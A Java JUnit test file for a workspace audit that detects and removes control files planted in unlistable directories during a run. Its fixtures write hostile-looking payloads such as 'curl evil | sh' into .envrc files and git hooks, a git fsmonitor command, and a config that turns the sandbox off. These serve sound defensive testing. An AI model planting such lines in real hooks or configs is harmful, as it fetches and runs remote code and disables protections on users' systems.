package dev.magus.workspace.audit;

import static org.assertj.core.api.Assertions.assertThat;

import dev.magus.events.Code;
import dev.magus.events.Layer;
import dev.magus.policy.control.ControlFiles;
import dev.magus.policy.path.DirectoryReader;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * A directory the audit cannot list never hides a change: the run that leaves one is
 * an MGS2002 naming it, unless it provably kept everyone out during the run. A user without
 * root's {@code CAP_DAC_*} is emulated through the reader seam ({@link AsAUser}): as root every
 * directory is listable, and the same tree is audited as usual ({@link #asRootTheChangeIsSeenThrough}).
 */
class UnlistedDirectoryTest {
    /** The audits' walks kept from run to run; a fresh one is a new process. */
    private AuditCaches caches = new AuditCaches();
    Path ws;

    /** The DAC checks a user without capabilities meets: read to list a directory, search to pass it. */
    static final class AsAUser implements DirectoryReader {
        private final DirectoryReader real = Readers.java();
        private final Path top;

        AsAUser(Path top) {
            this.top = top;
        }

        private int mode(Path p) {
            return real.stat(p.toString()).map(DirectoryReader.Stamp::permissions).orElse(0);
        }

        private boolean reachable(Path p) {
            for (Path a = p.getParent(); a != null && a.startsWith(top); a = a.getParent()) {
                if ((mode(a) & 0100) == 0) {
                    return false;
                }
            }
            return true;
        }

        @Override
        public Optional<Stamp> stat(String absolutePath) {
            Path p = Path.of(absolutePath);
            return reachable(p) ? real.stat(absolutePath) : Optional.empty();
        }

        @Override
        public Optional<Listing> list(String absolutePath) {
            Path p = Path.of(absolutePath);
            return reachable(p) && (mode(p) & 0400) != 0 ? real.list(absolutePath) : Optional.empty();
        }
    }

    @BeforeEach
    void makeWorkspace() throws IOException {
        ws = Files.createTempDirectory("magus-unlisted-test-").toRealPath();
        Files.createDirectories(ws.resolve(".git/hooks"));
    }

    @AfterEach
    void removeWorkspace() throws IOException {
        Restorer.removeEntry(ws);
    }

    private ControlFileAudit audit(DirectoryReader reader) {
        return ControlFileAudit.of(ControlFiles.of(ws, List.of(ws.resolve(".git"))), reader, caches);
    }

    private ControlFileAudit asAUser() {
        return audit(new AsAUser(ws));
    }

    private static void chmod(Path p, int mode) throws IOException {
        Files.setAttribute(p, "unix:mode", mode);
    }

    private static void assertUnaudited(ControlFileAudit.Report report, Path... dirs) {
        assertThat(report.changed()).isTrue();
        assertThat(report.unaudited()).containsExactly(dirs);
        assertThat(report.diagnostics()).hasSize(dirs.length).allSatisfy(d -> {
            assertThat(d.code()).isEqualTo(Code.MGS2002);
            assertThat(d.layer()).isEqualTo(Layer.AUDIT);
            assertThat(d.message()).contains("cannot be audited").contains("inspect").doesNotContain("Make it listable");
            assertThat(d.details()).containsEntry("change", "unaudited").containsEntry("restored", "false");
        });
        for (int i = 0; i < dirs.length; i++) {
            assertThat(report.diagnostics().get(i).subject()).isEqualTo(dirs[i].toString());
        }
    }

    @Test
    void aControlFilePlantedInADirectoryTheRunThenMadeUnlistableFailsTheRunNamingIt() throws IOException {
        Path sub = Files.createDirectories(ws.resolve("sub/deeper"));
        ControlFileAudit.Baseline baseline = asAUser().before();
        Files.writeString(sub.resolve(".envrc"), "curl evil | sh\n");
        chmod(ws.resolve("sub"), 0);
        assertUnaudited(baseline.after(ControlFilesAction.RESTORE), ws.resolve("sub"));
    }

    @Test
    void aBareRepositoryThatCannotBeListedIsToldByNameAndAHookPlantedInItIsRemoved() throws IOException {
        Path bare = Files.createDirectories(ws.resolve("remote.git"));
        Files.writeString(bare.resolve("HEAD"), "ref: refs/heads/main\n");
        Files.createDirectories(bare.resolve("objects"));
        Files.createDirectories(bare.resolve("refs"));
        Files.createDirectories(bare.resolve("hooks"));
        Files.writeString(bare.resolve("config"), "[core]\n\tbare = true\n");
        chmod(bare, 0111);
        ControlFileAudit.Baseline baseline = asAUser().before();
        assertThat(baseline.snapshot().entries()).containsKeys(bare.resolve("hooks"), bare.resolve("config"));
        Path hook = Files.writeString(bare.resolve("hooks/post-receive"), "#!/bin/sh\nevil\n");
        ControlFileAudit.Report report = baseline.after(ControlFilesAction.RESTORE);
        assertThat(report.changes()).extracting(Change::path).contains(hook);
        assertThat(hook).doesNotExist();
    }

    @Test
    void asRootTheChangeIsSeenThrough() throws IOException {
        Path sub = Files.createDirectories(ws.resolve("sub"));
        ControlFileAudit.Baseline baseline = audit(Readers.java()).before();
        Path envrc = Files.writeString(sub.resolve(".envrc"), "curl evil | sh\n");
        chmod(sub, 0);
        ControlFileAudit.Report report = baseline.after(ControlFilesAction.RESTORE);
        assertThat(report.unaudited()).isEmpty();
        assertThat(report.changes()).singleElement().isInstanceOfSatisfying(Change.Created.class,
                c -> assertThat(c.path()).isEqualTo(envrc));
        assertThat(envrc).doesNotExist();
    }

    @Test
    void aDirectoryUnlistableBeforeAndUntouchedByTheRunPasses() throws IOException {
        Path sub = Files.createDirectories(ws.resolve("sub"));
        Files.writeString(sub.resolve(".envrc"), "export A=1\n");
        chmod(sub, 0);
        ControlFileAudit.Baseline baseline = asAUser().before();
        Files.writeString(ws.resolve("unrelated.txt"), "x");
        ControlFileAudit.Report report = baseline.after(ControlFilesAction.RESTORE);
        assertThat(report.changed()).as("%s", report.diagnostics()).isFalse();
        // And the next run, from this process's last walk, the same.
        ControlFileAudit.Baseline next = asAUser().before();
        assertThat(next.after(ControlFilesAction.RESTORE).changed()).isFalse();
    }

    @Test
    void aDirectoryUnlistableBeforeThatTheRunOpenedFailsAndWhatWasPlantedInItIsRemoved() throws IOException {
        Path sub = Files.createDirectories(ws.resolve("sub"));
        chmod(sub, 0);
        ControlFileAudit.Baseline baseline = asAUser().before();
        chmod(sub, 0700);
        Path envrc = Files.writeString(sub.resolve(".envrc"), "curl evil | sh\n");
        Path hook = Files.createDirectories(sub.resolve("deeper/.git/hooks")).resolve("pre-commit");
        Files.writeString(hook, "#!/bin/sh\ncurl evil | sh\n");
        Path plain = Files.writeString(sub.resolve("notes.txt"), "kept");
        ControlFileAudit.Report report = baseline.after(ControlFilesAction.RESTORE);

        assertThat(report.changed()).isTrue();
        assertThat(report.unaudited()).containsExactly(sub);
        assertThat(report.changes()).extracting(Change::path).contains(envrc).allMatch(p -> p.startsWith(sub));
        assertThat(report.changes()).allSatisfy(c -> assertThat(c).isInstanceOf(Change.Created.class));
        assertThat(envrc).doesNotExist();
        assertThat(hook).doesNotExist();
        assertThat(plain).as("only control entries are the audit's").hasContent("kept");
        assertThat(report.diagnostics()).anySatisfy(d -> {
            assertThat(d.subject()).isEqualTo(sub.toString());
            assertThat(d.details()).containsEntry("change", "unaudited");
            assertThat(d.message()).contains("could not list it before").contains("removed");
        });
        assertThat(report.diagnostics()).anySatisfy(d -> {
            assertThat(d.subject()).isEqualTo(envrc.toString());
            assertThat(d.layer()).isEqualTo(Layer.AUDIT);
            assertThat(d.details()).containsEntry("change", "created").containsEntry("restored", "true");
        });
    }

    @Test
    void aDirectoryUnlistableBeforeThatTheRunOpenedIsReportedEntryByEntryWhenOnlyReporting() throws IOException {
        Path sub = Files.createDirectories(ws.resolve("sub"));
        chmod(sub, 0);
        ControlFileAudit.Baseline baseline = asAUser().before();
        chmod(sub, 0700);
        Path envrc = Files.writeString(sub.resolve(".envrc"), "curl evil | sh\n");
        ControlFileAudit.Report report = baseline.after(ControlFilesAction.REPORT);
        assertThat(report.unaudited()).containsExactly(sub);
        assertThat(report.changes()).singleElement().isInstanceOfSatisfying(Change.Created.class,
                c -> assertThat(c.path()).isEqualTo(envrc));
        assertThat(envrc).exists();
        assertThat(report.diagnostics()).anySatisfy(d -> assertThat(d.message()).contains("left as it is"));
    }

    @Test
    void aHooksDirectoryUnlistableBeforeThatTheRunOpenedLosesWhatWasPlantedButStaysItself() throws IOException {
        Path hooks = ws.resolve(".git/hooks");
        chmod(hooks, 0);
        ControlFileAudit.Baseline baseline = asAUser().before();
        chmod(hooks, 0700);
        Path hook = Files.writeString(hooks.resolve("pre-commit"), "#!/bin/sh\ncurl evil | sh\n");
        ControlFileAudit.Report report = baseline.after(ControlFilesAction.RESTORE);
        assertThat(report.unaudited()).containsExactly(hooks);
        assertThat(hook).doesNotExist();
        assertThat(hooks).as("the directory itself was recorded before: put back, not removed").isDirectory();
        assertThat(report.changes()).extracting(Change::path).contains(hook).doesNotContain(ws.resolve(".git"));
    }

    @Test
    void aDirectoryUnlistableBeforeThatTheRunClosedAgainFails() throws IOException {
        Path sub = Files.createDirectories(ws.resolve("sub"));
        chmod(sub, 0);
        ControlFileAudit.Baseline baseline = asAUser().before();
        chmod(sub, 0700);
        Files.writeString(sub.resolve(".envrc"), "curl evil | sh\n");
        chmod(sub, 0);
        assertUnaudited(baseline.after(ControlFilesAction.RESTORE), sub);
    }

    @Test
    void aSearchableButUnreadableDirectoryFailsEvenWithItsTimesUnchanged() throws IOException {
        Path inner = Files.createDirectories(ws.resolve("sub/inner"));
        chmod(ws.resolve("sub"), 0300);
        ControlFileAudit.Baseline baseline = asAUser().before();
        // A name beneath it is reachable without listing it, and writing there leaves sub as it was.
        Files.writeString(inner.resolve(".envrc"), "curl evil | sh\n");
        assertUnaudited(baseline.after(ControlFilesAction.RESTORE), ws.resolve("sub"));
    }

    @Test
    void aHooksDirectoryMadeUnlistableFailsAndIsNotReportedAsAModeChangeOnly() throws IOException {
        Path hooks = ws.resolve(".git/hooks");
        ControlFileAudit.Baseline baseline = asAUser().before();
        Files.writeString(hooks.resolve("pre-commit"), "#!/bin/sh\ncurl evil | sh\n");
        chmod(hooks, 0);
        ControlFileAudit.Report report = baseline.after(ControlFilesAction.RESTORE);
        assertUnaudited(report, hooks);
        assertThat(report.changes()).isEmpty();
    }

    @Test
    void aDirectoryNoLongerSearchableHidesNothingEither() throws IOException {
        Path sub = Files.createDirectories(ws.resolve("sub/inner"));
        Path envrc = Files.writeString(sub.resolve(".envrc"), "export A=1\n");
        ControlFileAudit.Baseline baseline = asAUser().before();
        Files.writeString(envrc, "curl evil | sh\n");
        chmod(ws.resolve("sub"), 0600);
        // sub can be listed, but nothing beneath it stat'ed: inner is named yet unreachable.
        ControlFileAudit.Report report = baseline.after(ControlFilesAction.RESTORE);
        assertThat(report.changed()).isTrue();
        assertThat(report.unaudited()).containsExactly(sub);
    }
    private void plantAndCloseInOneRun(ControlFileAudit audit, Path sub, Path envrc) throws IOException {
        ControlFileAudit.Baseline run = audit.before();
        Files.writeString(envrc, "curl evil | sh\n");
        chmod(sub, 0);
        assertUnaudited(run.after(ControlFilesAction.RESTORE), sub);
    }

    private static void assertReopenedAndRemoved(ControlFileAudit.Report report, Path sub, Path envrc) {
        assertThat(report.changed()).as("%s", report.diagnostics()).isTrue();
        assertThat(report.unaudited()).containsExactly(sub);
        assertThat(report.changes()).extracting(Change::path).contains(envrc);
        assertThat(envrc).doesNotExist();
        assertThat(report.diagnostics()).anySatisfy(d -> {
            assertThat(d.subject()).isEqualTo(sub.toString());
            assertThat(d.message()).contains("earlier run");
        });
    }

    @Test
    void aDirectoryAnEarlierRunLeftUnlistableAndTheUserReopenedIsTheRunsAndWhatIsBeneathIsRemoved()
            throws IOException {
        Path sub = Files.createDirectories(ws.resolve("d"));
        Path envrc = sub.resolve(".envrc");
        plantAndCloseInOneRun(asAUser(), sub, envrc);
        chmod(sub, 0700); // the user follows the hint
        ControlFileAudit.Baseline next = asAUser().before();
        assertReopenedAndRemoved(next.after(ControlFilesAction.RESTORE), sub, envrc);
        // Reported and cleaned once: the run after that is clean.
        assertThat(asAUser().before().after(ControlFilesAction.RESTORE).changed()).isFalse();
    }

    @Test
    void theMemoryOfAnUnauditedDirectoryOutlivesTheProcessInTheStateDir() throws IOException {
        Path state = Files.createTempDirectory("magus-unlisted-state-");
        try {
            dev.magus.workspace.StateDir dir = new dev.magus.workspace.StateDir(state);
            Path sub = Files.createDirectories(ws.resolve("d"));
            Path envrc = sub.resolve(".envrc");
            plantAndCloseInOneRun(asAUser().keepingWalksIn(dir), sub, envrc);
            caches = new AuditCaches(); // a new process
            chmod(sub, 0700);
            ControlFileAudit.Baseline next = asAUser().keepingWalksIn(dir).before();
            assertReopenedAndRemoved(next.after(ControlFilesAction.RESTORE), sub, envrc);
        } finally {
            Restorer.removeEntry(state);
        }
    }

    @Test
    void aDirectoryAnEarlierRunLeftUnlistableKeepsFailingWhileItStaysSo() throws IOException {
        Path sub = Files.createDirectories(ws.resolve("d"));
        plantAndCloseInOneRun(asAUser(), sub, sub.resolve(".envrc"));
        for (int i = 0; i < 2; i++) {
            assertUnaudited(asAUser().before().after(ControlFilesAction.RESTORE), sub);
        }
    }

    @Test
    void beneathASearchableUnreadableDirectoryTheFixedControlNamesAreAuditedByName() throws IOException {
        Path sub = Files.createDirectories(ws.resolve("d"));
        Path envrc = Files.writeString(sub.resolve(".envrc"), "export A=1\n");
        chmod(sub, 0111);
        ControlFileAudit.Baseline baseline = asAUser().before();
        Files.writeString(envrc, "curl evil | sh\n");
        Path yaml = Files.writeString(sub.resolve("magus.yaml"), "sandbox: {mode: off}\n");
        ControlFileAudit.Report report = baseline.after(ControlFilesAction.RESTORE);
        assertThat(report.unaudited()).containsExactly(sub);
        assertThat(report.changes()).extracting(Change::path).contains(envrc, yaml);
        assertThat(envrc).hasContent("export A=1\n");
        assertThat(yaml).doesNotExist();
    }

    @Test
    void beneathASearchableUnreadableGitModulesTheSubmodulesHooksAndConfigAreAuditedByName() throws IOException {
        Files.writeString(ws.resolve(".gitmodules"), "[submodule \"lib/a\"]\n\tpath = vendor/a\n"
                + "[submodule \"../../escape\"]\n\tpath = x\n");
        Path sub = Files.createDirectories(ws.resolve(".git/modules/lib/a/hooks"));
        Path config = Files.writeString(sub.resolveSibling("config"), "[core]\n\tbare = false\n");
        Path modules = ws.resolve(".git/modules");
        chmod(modules, 0111);
        ControlFileAudit.Baseline baseline = asAUser().before();
        Files.writeString(config, "[core]\n\tfsmonitor = touch pwned\n");
        Path hook = Files.writeString(sub.resolve("pre-commit"), "#!/bin/sh\ncurl evil | sh\n");
        ControlFileAudit.Report report = baseline.after(ControlFilesAction.RESTORE);
        chmod(modules, 0755);
        assertThat(report.unaudited()).containsExactly(modules);
        assertThat(report.changes()).extracting(Change::path).contains(config, hook);
        // Judged key by key: the dangerous key goes, the harmless removal of core.bare stays.
        assertThat(config).hasContent("[core]\n");
        assertThat(hook).doesNotExist();
    }

    @Test
    void submoduleNamesComeFromGitmodulesAndNeverLeadOutOfModules() {
        assertThat(SubmoduleNames.names("[submodule \"a\"]\n path = a\n [submodule \"x\\\"y\"]\n#[submodule \"no\"]\n"))
                .containsExactly("a", "x\"y");
        Path git = ws.resolve(".git");
        assertThat(SubmoduleNames.entriesBeneath(ws.resolve("src"))).isEmpty();
        assertThat(SubmoduleNames.entriesBeneath(git.resolve("hooks"))).isEmpty();
    }
}
